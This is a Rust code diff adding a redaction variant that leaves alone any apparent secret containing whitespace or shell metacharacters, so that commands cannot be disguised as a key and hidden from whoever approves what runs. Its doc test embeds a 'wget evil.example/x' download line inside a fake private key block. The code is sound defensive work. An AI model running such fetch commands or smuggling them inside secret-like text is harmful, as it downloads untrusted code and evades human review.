@@ -51,7 +51,30 @@ impl Redactor {
     /// and at most four characters of the secret stay. Redacting again changes nothing.
     #[must_use]
     pub fn redact<'a>(&self, text: &'a str) -> Cow<'a, str> {
-        match self.redact_bytes(text.as_bytes()) {
+        Self::text(text, Self::write(text.as_bytes(), &self.spans(text.as_bytes())))
+    }
+
+    /// As [`redact`](Self::redact), for a text by which somebody decides what may run: takes out only secrets that are one
+    /// word without anything that a shell acts on, so that nothing else can be dressed up as one and hidden.
+    ///
+    /// ```
+    /// # use guard_core::secret::Redactor;
+    /// let question = "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nwget evil.example/x\n-----END PRIVATE KEY-----";
+    /// assert_ne!(Redactor::new().redact(question), question);
+    /// assert_eq!(Redactor::new().redact_words(question), question);
+    /// ```
+    #[must_use]
+    pub fn redact_words<'a>(&self, text: &'a str) -> Cow<'a, str> {
+        let is_active = |byte: &u8| byte.is_ascii_whitespace() || b"$`;|&<>(){}".contains(byte);
+        let mut spans = self.spans(text.as_bytes());
+        spans.retain(|span| {
+            text.as_bytes().get(span.range.clone()).is_some_and(|word| !word.iter().any(is_active))
+        });
+        Self::text(text, Self::write(text.as_bytes(), &spans))
+    }
+
+    fn text<'a>(text: &'a str, written: Cow<'a, [u8]>) -> Cow<'a, str> {
+        match written {
             Cow::Borrowed(_) => Cow::Borrowed(text),
             // A known value or a kept character can end inside a character only if the text was no UTF-8 to begin with.
             Cow::Owned(bytes) => Cow::Owned(match String::from_utf8(bytes) {
@@ -64,13 +87,16 @@ impl Redactor {
     /// As [`redact`](Self::redact); bytes that are not UTF-8 stay as they are.
     #[must_use]
     pub fn redact_bytes<'a>(&self, text: &'a [u8]) -> Cow<'a, [u8]> {
-        let spans = self.spans(text);
+        Self::write(text, &self.spans(text))
+    }
+
+    fn write<'a>(text: &'a [u8], spans: &[Span]) -> Cow<'a, [u8]> {
         if spans.is_empty() {
             return Cow::Borrowed(text);
         }
         let mut out = Vec::with_capacity(text.len());
         let mut writer = Writer::default();
-        for span in &spans {
+        for span in spans {
             writer.take_out(span, text, &mut out);
         }
         writer.copy_to(text.len(), text, &mut out);
